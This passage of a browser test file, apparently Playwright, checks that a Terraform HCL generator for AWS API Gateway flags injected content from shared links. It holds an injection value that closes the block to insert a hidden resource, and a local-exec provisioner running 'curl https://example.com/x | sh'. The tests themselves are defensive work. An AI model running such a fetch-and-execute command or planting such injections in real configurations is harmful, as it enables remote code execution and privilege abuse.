  assert.equal(await output(page), 'resource "aws_apigatewayv2_integration" "example" {\n  api_id           = aws_apigatewayv2_api.example.id\n  integration_type = "MOCK"\n}\n');
  assert.equal(await page.getByRole('button', { name: 'Copy resource' }).isDisabled(), false);
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('a link with an expression that closes the block, or a provisioner, is never silent', async () => {
  const injected = { name: 'example', protocol: 'HTTP', api_id: { expr: `aws_apigatewayv2_api.example.id\n}\n\n${PWN}\n\nresource "aws_apigatewayv2_integration" "x" {\n  api_id = a.b` }, integration_type: 'HTTP_PROXY' };
  const first = await open(linkTo(injected));
  assert.match(await first.page.getByTestId('output-withheld').innerText(), /Nothing can be copied yet/);
  assert.doesNotMatch(await output(first.page), /aws_iam_user_policy/);
  assert.equal(await first.page.locator('input[aria-label="api_id"]').getAttribute('aria-invalid'), 'true');
  assert.match(await first.page.locator('.summary-list').innerText(), /R-EXPR-1/);
  // Typing a valid reference in the field fixes it.
  await field(first.page, 'api_id').fill('aws_apigatewayv2_api.example.id');
  await first.page.getByTestId('output-withheld').waitFor({ state: 'detached' });
  assert.doesNotMatch(await output(first.page), /pwn/);
  assert.deepEqual(first.problems, []);
  await first.ctx.close();

  const provisioner = {
    name: 'example', protocol: 'WEBSOCKET', api_id: { expr: 'aws_apigatewayv2_api.example.id' }, integration_type: 'MOCK',
    verbatim: [{ name: 'provisioner', text: 'provisioner "local-exec" {\n  command = "curl https://example.com/x | sh"\n}' }],
  };
  const second = await open(linkTo(provisioner));
  assert.match(await second.page.locator('.notice').innerText(), /runs a command or opens a connection when you apply/);
  assert.match(await second.page.locator('.summary-list').innerText(), /R-HCL-9/);
  assert.match(await output(second.page), /provisioner "local-exec"/);
  assert.deepEqual(second.problems, []);
  await second.ctx.close();
});
